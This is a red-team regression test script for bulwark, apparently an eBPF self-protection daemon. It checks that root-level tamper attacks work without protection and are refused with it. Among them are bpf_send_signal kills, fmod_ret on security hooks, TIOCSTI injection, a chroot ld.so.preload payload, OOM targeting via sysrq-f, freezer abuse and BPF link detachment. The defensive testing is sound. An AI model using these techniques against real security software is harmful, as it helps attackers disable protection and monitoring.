#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Red team, second round: attacks t_redteam.sh does not try. Each runs
# first under an open policy (it must work: the attack is real), then under
# `protect self` + `protect AGENT level=antimalware` (it must be refused).
# A failing check here is a hole in self-protection.
#
# Covered:
#  - root's own BPF programs: bpf_send_signal and bpf_probe_write_user in
#    the target's own context (raw tracepoint); a read-only fd to a bw_ map
#    used by a program that writes the map (and fills the ring buffer);
#    fmod_ret on security_bpf_map (a writable map fd) and on
#    security_bprm_committed_creds (a protected program starts unprotected);
#  - the kernel's own signals on root's request: TIOCSTI ^C into the
#    agent's terminal, the OOM killer through sysrq-f;
#  - the cgroup v1 freezer (the cgroup guard looks at cgroup2 only);
#  - files: renaming a directory above a protected file or tree; a write
#    through open_by_handle_at (a disconnected dentry) into a protected
#    tree on ext4; utimensat; the events file;
#  - a protected program run in root's chroot, with the chroot's own
#    /etc/ld.so.preload: root's code runs at the program's level;
#  - the daemon: held connection slots, SIGSTOP and SIGKILL from its own
#    context, the v1 freezer, a restart by root with `--policy` (committed
#    unsigned, even when locked), its bw_protected entry deleted;
#  - `bulwark lock` by root while protection is on and nobody locked yet,
#    then an unload signed with root's own key;
#  - bulwark's links detached by id (held: tracing links have no detach).
#
# Where an attack works, the check says HOLE. The lock attack ends
# protection when it works (then the admin protects and locks again for the
# restart attack); when it is refused, protection stays on until the VM
# powers off, as in t_redteam.sh (run-suite runs that file first).
source "$(dirname "$0")/../vm/lib.sh" || exit 1
setup fresh # (lib.sh: loads the programs itself, nothing kept)
# root's own BPF programs (bwevil, evil.bpf.o): built here when make did not
if [[ ! -x $REPO/build/tests/bwevil || ! -e $REPO/build/tests/evil.bpf.o || ! -e $REPO/build/tests/evil-preload.so ]]; then
	clang -g -O2 -target bpf -D__TARGET_ARCH_x86 -I"$REPO/bpf" -c "$REPO/tests/redteam/evil.bpf.c" \
		-o "$REPO/build/tests/evil.bpf.o" &&
		cc -O2 -Wall -o "$REPO/build/tests/bwevil" "$REPO/tests/redteam/bwevil.c" -lbpf &&
		cc -O2 -shared -fPIC -o "$REPO/build/tests/evil-preload.so" "$REPO/tests/redteam/evil-preload.c" ||
		fail "cannot build bwevil"
fi

T=$WORK/at
PIN=/sys/fs/bpf/bulwark
mkdir -p "$T/opt/agent" "$T/bin" "$T/other" "$T/fz"
cp "$BWTRY" "$T/opt/agent/agent"
cp "$BWTRY" "$T/plain"
cp "$BULWARKD" "$T/bin/bulwarkd"
BULWARKD=$T/bin/bulwarkd
echo evil >"$T/evil"

OPEN_POLICY=$WORK/open.policy
PROT_POLICY=$WORK/protect.policy
echo "deny exec $T/other/**" >"$OPEN_POLICY"
cat >"$PROT_POLICY" <<EOF
deny exec $T/other/**
protect self
protect $T/opt/agent/** level=antimalware
protect $T/ext/agent2/** level=vendor
EOF

protected_event() {
	wait_event "$1" ".action == \"blocked\" and .rule.gate == \"protect\" and ($2)" "${3:-20}"
}
state_of() { sed -n 's/^[0-9]* (.*) \(.\) .*/\1/p' "/proc/$1/stat" 2>/dev/null; }
alive() { local s; s=$(state_of "$1"); [[ -n $s && $s != Z && $s != X ]]; }

# spawn PROG OUT MODE: start PROG MODE (target or target-busy) in the background.
SPAWNED=
SPAWNED_ADDR=
spawn() {
	local prog=$1 out=$2 mode=$3 i
	: >"$out"
	"$prog" "$mode" >"$out" 2>&1 &
	SPAWNED=$!
	for ((i = 0; i < 50; i++)); do
		grep -q '^target' "$out" && break
		sleep 0.1
	done
	SPAWNED_ADDR=$(sed -n 's/.*addr=\(0x[0-9a-f]*\).*/\1/p' "$out")
}
# want_refused NAME MODE: in mode open the attack must have worked ($1 ok);
# protected, it must have been refused.
# An attack this kernel does not allow at all (its control fails) proves
# nothing either way: both halves are skipped, and said so.
declare -A IMPOSSIBLE=()
verdict() { # NAME MODE WORKED(yes|no)
	if [[ $2 == open ]]; then
		if [[ $3 == yes ]]; then
			pass "$1 (control): works without protection"
		else
			IMPOSSIBLE[$1]=1
			echo "skip - $1: not possible on $(uname -r) even without protection"
		fi
	elif [[ -n ${IMPOSSIBLE[$1]:-} ]]; then
		echo "skip - $1: not possible on this kernel"
	else
		[[ $3 == no ]] && pass "$1: refused under protection" ||
			fail "$1: HOLE: works under protection"
	fi
}

# ---- 1. bpf_send_signal from root's own raw tracepoint program ----------------
bpf_kill_attack() {
	local mode=$1 worked=no
	spawn "$T/opt/agent/agent" "$WORK/busy.out" target-busy
	local a=$SPAWNED
	out=$("$BWTRY" bpf-in-proc "$a" 8 kill 9 2>&1)
	echo "  bpf-in-proc kill: $out"
	sleep 0.3
	alive "$a" || worked=yes
	verdict "bpf_send_signal(SIGKILL) in the agent's own context" "$mode" "$worked"
	kill -9 "$a" 2>/dev/null
}

# ---- 2. bpf_probe_write_user into the agent's memory ---------------------------
bpf_write_attack() {
	local mode=$1 worked=no
	spawn "$T/opt/agent/agent" "$WORK/busyw.out" target-busy
	local a=$SPAWNED
	out=$("$BWTRY" bpf-in-proc "$a" 3 write "$SPAWNED_ADDR" 0x58 2>&1)
	echo "  bpf-in-proc write: $out"
	sleep 0.5
	grep -q '^buf X' "$WORK/busyw.out" && worked=yes
	verdict "bpf_probe_write_user into the agent's memory" "$mode" "$worked"
	kill -9 "$a" 2>/dev/null
}

# ---- 3. a read-only fd to bulwark's map, written by a program of root's own ----
bpf_ro_map_attack() {
	local mode=$1 worked=no out
	spawn "$T/opt/agent/agent" "$WORK/ro.out" target
	local a=$SPAWNED
	if [[ $mode == open ]]; then
		# nothing is protected: the control rewrites bw_guard through a read-only fd
		out=$("$BWTRY" bpf-ro-clear "$PIN/bw_guard" 0 2>&1)
		echo "  bpf-ro-clear bw_guard: $out"
		[[ $out == *" result=0"* ]] && worked=yes
	else
		out=$("$BWTRY" bpf-ro-clear "$PIN/bw_protected" "$a" 2>&1)
		echo "  bpf-ro-clear bw_protected[$a]: $out"
		kill -9 "$a" 2>/dev/null
		sleep 0.2
		alive "$a" || worked=yes
	fi
	verdict "read-only map fd + own program deletes the agent's protection, then kill -9" "$mode" "$worked"
	kill -9 "$a" 2>/dev/null
}

# ---- 4. TIOCSTI: ^C typed into the protected process's terminal ----------------
tty_attack() {
	local mode=$1 worked=no out tty i
	: >"$WORK/tty.name"
	python3 - "$T/opt/agent/agent" "$WORK/tty.name" >"$WORK/tty.out" 2>&1 <<'EOF' &
import os, sys, pty, signal
pid, fd = pty.fork()
if pid == 0:
    # as from a login shell: a background job of this script ignores SIGINT
    signal.signal(signal.SIGINT, signal.SIG_DFL)
    open(sys.argv[2], "w").write("%d %s\n" % (os.getpid(), os.ttyname(0)))
    os.execv(sys.argv[1], [sys.argv[1], "target"])
while True:
    try:
        d = os.read(fd, 1024)
    except OSError:
        break
    if not d:
        break
os.waitpid(pid, 0)
EOF
	local py=$!
	for ((i = 0; i < 50; i++)); do [[ -s $WORK/tty.name ]] && break; sleep 0.1; done
	sleep 1
	read -r a tty <"$WORK/tty.name"
	out=$("$BWTRY" tiocsti "$tty" 3 2>&1)
	echo "  tiocsti $tty ^C for $a: $out"
	sleep 0.5
	alive "$a" || worked=yes
	verdict "^C pushed into the agent's terminal (TIOCSTI) kills it" "$mode" "$worked"
	kill -9 "$a" "$py" 2>/dev/null
}

# ---- 5. cgroup v1 freezer: the v2-only cgroup guard does not see it ------------
FZ=$T/fz
freezer_attack() { # MODE PID NAME
	local mode=$1 p=$2 name=$3 worked=no st
	mkdir -p "$FZ/x"
	echo "$p" >"$FZ/x/cgroup.procs" 2>/dev/null
	echo FROZEN >"$FZ/x/freezer.state" 2>/dev/null
	sleep 1
	st=$(cat "$FZ/x/freezer.state" 2>/dev/null)
	echo "  v1 freezer of $name ($p): $st"
	[[ $st == FROZEN ]] && worked=yes
	if [[ $name == bulwarkd ]]; then
		# a frozen daemon answers nothing and reads no events
		timeout 10 "$BULWARK" status >/dev/null 2>&1 && worked=no
	fi
	echo THAWED >"$FZ/x/freezer.state" 2>/dev/null
	sleep 0.5
	verdict "cgroup v1 freezer freezes $name" "$mode" "$worked"
}

# ---- 6. rename a directory above a protected file, then put another there ------
rename_above_attack() {
	local mode=$1 worked=no
	rm -rf "$T/bin.old"
	if mv "$T/bin" "$T/bin.old" 2>/dev/null && mkdir "$T/bin" && cp "$T/evil" "$T/bin/bulwarkd"; then
		cmp -s "$T/evil" "$T/bin/bulwarkd" && worked=yes
	fi
	verdict "rename the directory above bulwarkd's binary, then put another binary at its path" \
		"$mode" "$worked"
	# the agent's tree: its own directory is refused, the one above it?
	worked=no
	rm -rf "$T/opt.old"
	if mv "$T/opt" "$T/opt.old" 2>/dev/null && mkdir -p "$T/opt/agent" && cp "$T/evil" "$T/opt/agent/agent"; then
		cmp -s "$T/evil" "$T/opt/agent/agent" && worked=yes
	fi
	verdict "rename the directory above the agent's tree, then put another agent at its path" \
		"$mode" "$worked"
	if [[ $mode == protected && $worked == yes ]]; then
		sleep 3 # the daemon may re-resolve the tree to the new directory
		if sh -c "echo x >>'$T/opt.old/agent/agent'" 2>/dev/null; then
			fail "the original agent binary, moved away, is writable now: HOLE"
		else
			pass "the original agent binary, moved away, is still protected"
		fi
	fi
	# put the real ones back where they were (the same renames, if they worked)
	if [[ $mode == protected && -d $T/bin.old ]]; then
		rm -rf "$T/bin" && mv "$T/bin.old" "$T/bin"
	fi
	if [[ $mode == protected && -d $T/opt.old ]]; then
		rm -rf "$T/opt" && mv "$T/opt.old" "$T/opt"
	fi
}

# ---- 7. the events file: truncate it -------------------------------------------
events_file_attack() {
	local mode=$1 worked=no
	cp "$EV" "$WORK/events.saved"
	: >"$EV" 2>/dev/null && [[ ! -s $EV ]] && worked=yes
	verdict "truncate bulwarkd's events file" "$mode" "$worked"
	cat "$WORK/events.saved" >>"$EV" 2>/dev/null
}


# ---- 8. fmod_ret programs of root's own on security_* functions ---------------
BWEVIL=$REPO/build/tests/bwevil
le32() { local v=$1; echo $((v & 255)) $((v >> 8 & 255)) $((v >> 16 & 255)) $((v >> 24 & 255)); }
fmod_ret_attacks() {
	local mode=$1 worked=no out a rc
	if [[ $mode == open ]]; then
		out=$("$BWEVIL" skip_bpf_map bpftool map update pinned "$PIN/bw_guard" key 0 0 0 0 value 0 0 0 0 0 0 0 0 2>&1)
		rc=$?
		echo "  fmod_ret security_bpf_map + bpftool map update bw_guard: rc=$rc $out"
		[[ $out == *"attach=ok"* && $rc -eq 0 ]] && worked=yes
		verdict "fmod_ret on security_bpf_map, then a writable map fd" "$mode" "$worked"
	else
		spawn "$T/opt/agent/agent" "$WORK/fm.out" target
		a=$SPAWNED
		# shellcheck disable=SC2046
		out=$("$BWEVIL" skip_bpf_map bpftool map delete pinned "$PIN/bw_protected" key $(le32 "$a") 2>&1)
		echo "  fmod_ret security_bpf_map + bpftool map delete bw_protected[$a]: $out"
		kill -9 "$a" 2>/dev/null
		sleep 0.2
		alive "$a" || worked=yes
		verdict "fmod_ret on security_bpf_map, then bpftool deletes the agent's protection and kill -9" \
			"$mode" "$worked"
		kill -9 "$a" 2>/dev/null
	fi
	# a protected program started while bprm_committed_creds is skipped gets no level
	worked=no
	rm -f "$WORK/fm.pid"
	out=$("$BWEVIL" skip_committed bash -c '"$1" target >/dev/null 2>&1 & echo $! >"$2"; sleep 0.5' _ \
		"$T/opt/agent/agent" "$WORK/fm.pid" 2>&1)
	echo "  fmod_ret security_bprm_committed_creds: $out"
	a=$(cat "$WORK/fm.pid" 2>/dev/null)
	if [[ -n $a ]]; then
		sleep 0.5
		kill -9 "$a" 2>/dev/null
		sleep 0.2
		alive "$a" || worked=yes
	fi
	verdict "fmod_ret on security_bprm_committed_creds: the agent starts unprotected, kill -9" "$mode" "$worked"
	[[ -n $a ]] && kill -9 "$a" 2>/dev/null
}

# ---- 9. the OOM killer, aimed by sysrq-f once everything else is -1000 ----------
oom_attack() {
	local mode=$1 worked=no a f p i
	: >"$WORK/oom.out"
	(echo 0 >/proc/self/oom_score_adj; exec "$T/opt/agent/agent" target-busy 300) >"$WORK/oom.out" 2>&1 &
	a=$!
	for ((i = 0; i < 100; i++)); do grep -q '^target' "$WORK/oom.out" && break; sleep 0.2; done
	for f in /proc/[0-9]*/oom_score_adj; do
		p=${f#/proc/}
		p=${p%%/*}
		[[ $p == "$a" ]] || echo -1000 >"$f" 2>/dev/null
	done
	echo f >/proc/sysrq-trigger
	sleep 2
	alive "$a" || worked=yes
	verdict "sysrq-f (the OOM killer) kills the agent when every other process is at -1000" "$mode" "$worked"
	kill -9 "$a" 2>/dev/null
}

# ---- 10. timestamps of a protected file (inode_setattr) ---------------------------
utimes_attack() {
	local mode=$1 worked=no before
	before=$(stat -c %Y "$BULWARKD")
	# -c: utimensat by path, no open for writing (which is refused)
	touch -c -d "@$((before - 86400))" "$BULWARKD" 2>/dev/null
	[[ $(stat -c %Y "$BULWARKD") != "$before" ]] && worked=yes
	verdict "touch -c -d (utimensat by path) on bulwarkd's binary" "$mode" "$worked"
}

# ---- 11. bulwark's links, by id --------------------------------------------------
link_detach_attack() {
	local ids id n=0 worked=no
	ids=$(bpftool link show -j 2>/dev/null | jq -r '.[] | .id' 2>/dev/null)
	for id in $ids; do
		bpftool link detach id "$id" >/dev/null 2>&1 && { worked=yes; n=$((n + 1)); }
	done
	[[ $worked == no ]] && pass "bpftool link detach of every link ($(wc -w <<<"$ids")): refused" ||
		fail "bpftool link detach: HOLE: $n links detached"
}

# ---- 12. every control connection slot held: the admin is shut out -------------
BULWARK_SOCK=/run/bulwark/bulwarkd.sock
slots_attack() {
	local evicted out
	evicted=$("$BULWARK" status --json | jq -r .clients_evicted)
	python3 - "$BULWARK_SOCK" 20 <<'EOF' &
import socket, sys, time
conns = []
for _ in range(80):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(sys.argv[1])
        conns.append(s)
    except OSError:
        break
time.sleep(int(sys.argv[2]))
EOF
	local py=$!
	sleep 4
	if out=$(timeout 10 "$BULWARK" status --json 2>&1); then
		pass "control socket still serves the admin with 80 idle connections held"
		# 64 slots: 16 of the 80 and then one more for the admin evicted the longest idle
		check "the daemon counted the evictions ($evicted before: $(jq -c .clients_evicted <<<"$out"))" \
			test "$(jq -r .clients_evicted <<<"$out")" -ge $((evicted + 17))
	else
		fail "control socket: HOLE: 80 idle root connections shut out bulwark status (and events): $out"
	fi
	kill "$py" 2>/dev/null
	wait "$py" 2>/dev/null
}

# ---- 13. bulwarkd killed from its own context, then started again by root ------
# with a policy of root's choosing: the start commits it unsigned
restart_attack() {
	local i a sha_before sha_after
	sha_before=$("$BULWARK" status --json | jq -r .policy.sha256)
	("$BWTRY" bpf-in-proc "$DAEMON_PID" 30 kill 9 >"$WORK/dkill.out" 2>&1 &)
	for ((i = 0; i < 20; i++)); do
		timeout 2 "$BULWARK" status >/dev/null 2>&1
		alive "$DAEMON_PID" || break
		sleep 0.5
	done
	if alive "$DAEMON_PID"; then
		pass "bulwarkd survived bpf_send_signal(SIGKILL) from its own context"
		# the OOM killer, aimed at bulwarkd: everything else at -1000
		for f in /proc/[0-9]*/oom_score_adj; do echo -1000 >"$f" 2>/dev/null; done
		echo f >/proc/sysrq-trigger
		sleep 2
		if alive "$DAEMON_PID"; then
			pass "bulwarkd survived sysrq-f with everything else at -1000"
			return
		fi
		fail "sysrq-f: HOLE: the OOM killer killed bulwarkd"
	else
		fail "bpf_send_signal(SIGKILL) from bulwarkd's own context: HOLE: bulwarkd is dead"
	fi
	wait "$DAEMON_PID" 2>/dev/null
	DAEMON_PID=
	spawn "$T/opt/agent/agent" "$WORK/rs.out" target
	a=$SPAWNED
	expect_try "agent still protected by the pinned programs with bulwarkd dead" kill EPERM "$a" 9
	if start_daemon --policy "$OPEN_POLICY"; then
		sha_after=$("$BULWARK" status --json | jq -r .policy.sha256)
		echo "  policy before $sha_before, after root's restart $sha_after"
		[[ $sha_after == "$sha_before" ]] &&
			pass "bulwarkd restarted by root with another policy: the protected policy stays" ||
			fail "bulwarkd restarted by root with --policy: HOLE: unsigned policy committed ($sha_after)"
		expect_try "agent after root's restart of bulwarkd" kill EPERM "$a" 9
		cmd_ok=no
		bpftool map update pinned "$PIN/bw_guard" key 0 0 0 0 value 0 0 0 0 0 0 0 0 >/dev/null 2>&1 &&
			cmd_ok=yes
		[[ $cmd_ok == no ]] && pass "after root's restart of bulwarkd, bulwark's maps stay closed" ||
			fail "after root's restart of bulwarkd: HOLE: bpftool map update of bw_guard works"
		if sh -c "echo '# root was here' >>'$PROT_POLICY'" 2>/dev/null; then
			fail "after root's restart of bulwarkd: HOLE: the protected policy file is writable"
		else
			pass "after root's restart of bulwarkd, the policy file stays protected"
		fi
	else
		pass "bulwarkd restarted by root with another policy: refused to start"
	fi
	kill -9 "$a" 2>/dev/null
}

# ---- 14. a protected program started in root's own chroot ----------------------
# bind-mounted there (the mount's target is not protected), with the chroot's
# own loader, libc and /etc/ld.so.preload: the preloaded code runs with the
# program's level and kills the real agent
CR=$T/cr
chroot_attack() {
	local mode=$1 worked=no a out
	mkdir -p "$CR/etc" "$CR/lib64" "$CR/lib/x86_64-linux-gnu"
	cp -L /lib64/ld-linux-x86-64.so.2 "$CR/lib64/"
	cp -L /lib/x86_64-linux-gnu/libc.so.6 "$CR/lib/x86_64-linux-gnu/"
	cp "$REPO/build/tests/evil-preload.so" "$CR/evil.so"
	echo /evil.so >"$CR/etc/ld.so.preload"
	touch "$CR/agent"
	out=$("$BWTRY" mount-bind "$T/opt/agent/agent" "$CR/agent" 2>&1)
	echo "  bind mount of the agent binary into the chroot: $out"
	spawn "$T/opt/agent/agent" "$WORK/cr.out" target
	a=$SPAWNED
	out=$(BW_VICTIM=$a chroot "$CR" /agent noop 2>&1)
	echo "  chroot $CR /agent noop: $out"
	sleep 0.3
	alive "$a" || worked=yes
	verdict "the protected program run in root's chroot, its ld.so.preload kills the agent" "$mode" "$worked"
	kill -9 "$a" 2>/dev/null
	umount "$CR/agent" 2>/dev/null
}

# ---- 15. a protected tree on a disk filesystem, through a file handle ---------
# open_by_handle_at of a file whose dentry was dropped gives a disconnected
# dentry: walking d_parent from it never reaches the protected directory
EXT=$T/ext
ext_setup() {
	modprobe loop 2>/dev/null
	modprobe ext4 2>/dev/null
	mkdir -p "$EXT"
	truncate -s 16M "$WORK/ext.img" && mkfs.ext4 -q -F "$WORK/ext.img" &&
		mount -o loop "$WORK/ext.img" "$EXT" && mkdir -p "$EXT/agent2" &&
		echo original >"$EXT/agent2/signatures.db"
}
handle_attack() {
	local mode=$1 worked=no out
	if ! mountpoint -q "$EXT"; then
		fail "file handle attack: no ext4 mount at $EXT (setup failed)"
		return
	fi
	[[ $mode == protected ]] && cmd_ok=$(sh -c "echo x >>'$EXT/agent2/signatures.db'" 2>&1 && echo yes)
	[[ $mode == protected && $cmd_ok == yes ]] && fail "plain write to the protected ext4 tree works?"
	out=$("$BWTRY" handle-write "$EXT" "$EXT/agent2/signatures.db" tampered 2>&1)
	echo "  handle-write: $out"
	grep -q tampered "$EXT/agent2/signatures.db" && worked=yes
	verdict "open_by_handle_at for writing on a file in a protected tree (ext4)" "$mode" "$worked"
}

# ---- open policy: controls ------------------------------------------------------
ext_setup || { fail "cannot set up an ext4 filesystem at $T/ext"; mkdir -p "$EXT/agent2"; }
start_daemon --policy "$OPEN_POLICY" || { fail "daemon start (open policy)"; exit 1; }
mount -t cgroup -o freezer bw-freezer "$FZ" 2>/dev/null ||
	fail "cannot mount the cgroup v1 freezer at $FZ"

bpf_kill_attack open
bpf_write_attack open
bpf_ro_map_attack open
tty_attack open
spawn "$T/opt/agent/agent" "$WORK/fz.out" target
freezer_attack open "$SPAWNED" agent
kill -9 "$SPAWNED" 2>/dev/null
rename_above_attack open
# put things back
rm -rf "$T/bin" "$T/opt" && mv "$T/bin.old" "$T/bin" && mv "$T/opt.old" "$T/opt"
events_file_attack open
fmod_ret_attacks open
oom_attack open
utimes_attack open
chroot_attack open
handle_attack open
rm -f "$EXT/agent2/signatures.db" && echo original >"$EXT/agent2/signatures.db"

# ---- protection on (not locked: "the policy is fixed until the next boot") -------
out=$("$BULWARK" policy load "$PROT_POLICY" 2>&1)
check "protect policy loads: $out" test $? -eq 0
status() { "$BULWARK" status --json; }
gen=$(status | jq -r .policy.generation)

bpf_kill_attack protected
bpf_write_attack protected
bpf_ro_map_attack protected
tty_attack protected
spawn "$T/opt/agent/agent" "$WORK/fz.out" target
freezer_attack protected "$SPAWNED" agent
kill -9 "$SPAWNED" 2>/dev/null
events_file_attack protected
fmod_ret_attacks protected
oom_attack protected
chroot_attack protected
handle_attack protected
utimes_attack protected
slots_attack

# the daemon itself: stop it from its own context (SIGCONT, which anyone may
# send, resumes it), and freeze it
("$BWTRY" bpf-in-proc "$DAEMON_PID" 6 kill 19 >"$WORK/dstop.out" 2>&1 &)
for i in 1 2 3 4 5; do timeout 2 "$BULWARK" status >/dev/null 2>&1; sleep 0.3; done
st=$(state_of "$DAEMON_PID")
echo "  bulwarkd state after bpf_send_signal(SIGSTOP): $st ($(cat "$WORK/dstop.out"))"
[[ $st == T ]] && fail "bpf_send_signal(SIGSTOP) in bulwarkd's context: HOLE: bulwarkd stopped" ||
	pass "bpf_send_signal(SIGSTOP) in bulwarkd's context: bulwarkd still runs"
sleep 6
kill -CONT "$DAEMON_PID"
freezer_attack protected "$DAEMON_PID" bulwarkd

# junk in the ring buffer while a refusal happens: is the refusal still reported?
spawn "$T/opt/agent/agent" "$WORK/fl.out" target
a=$SPAWNED
("$BWTRY" bpf-ro-flood "$PIN/bw_events" 8 >"$WORK/flood.out" 2>&1 &)
sleep 2
expect_try "kill -9 of the agent during the flood" kill EPERM "$a" 9
sleep 7
echo "  flood: $(cat "$WORK/flood.out")"
grep -q 'rc=0' "$WORK/flood.out" && fail "junk written into bulwark's ring buffer through a read-only fd: HOLE" ||
	pass "ring buffer flood through a read-only fd refused"
protected_event "refusal during the flood still reported" ".target.pid == $a" 10
check "bulwarkd survived the flood" kill -0 "$DAEMON_PID"
kill -9 "$a" 2>/dev/null

rename_above_attack protected

# detaching bulwark's links would void every later check: last but one
link_detach_attack

# ---- root locks with its own key, then signs its own unload -----------------------
"$BULWARK" key gen "$WORK/evil" >/dev/null
out=$("$BULWARK" lock "$WORK/evil.pub" 2>&1)
rc=$?
if [[ $rc -ne 0 ]]; then
	pass "bulwark lock by root under protection refused: $out"
else
	fail "bulwark lock by root under protection: HOLE: accepted"
	"$BULWARK" sign --key "$WORK/evil.key" --version 1 unload -o "$WORK/evil-unload.sig" >/dev/null
	out=$("$BULWARK" unload --signature "$WORK/evil-unload.sig" 2>&1)
	rc=$?
	[[ $rc -eq 0 ]] && fail "unload signed with root's own lock key: HOLE: protection is gone ($out)" ||
		pass "unload with root's own key refused: $out"
	wait "$DAEMON_PID" 2>/dev/null
	DAEMON_PID=
fi
if [[ -z $DAEMON_PID ]]; then
	# root's own lock ended protection: protect again, locked by the admin this time
	start_daemon --policy "$PROT_POLICY" || fail "daemon restart (protected policy)"
	"$BULWARK" key gen "$WORK/admin" >/dev/null
	check "admin locks" "$BULWARK" lock "$WORK/admin.pub"
fi
[[ -n $DAEMON_PID ]] && restart_attack
# the daemon's own protection entry, through a read-only fd (last: it costs
# bulwarkd its level for good)
if [[ -n $DAEMON_PID ]] && "$BULWARK" status --json | jq -e '.protection.self' >/dev/null 2>&1; then
	out=$("$BWTRY" bpf-ro-clear "$PIN/bw_protected" "$DAEMON_PID" 2>&1)
	echo "  bpf-ro-clear bw_protected[bulwarkd]: $out"
	expect_try "SIGSTOP of bulwarkd after a read-only fd + own program deleted its entry" \
		kill EPERM "$DAEMON_PID" 19
	kill -CONT "$DAEMON_PID"
fi
umount "$FZ" 2>/dev/null
true
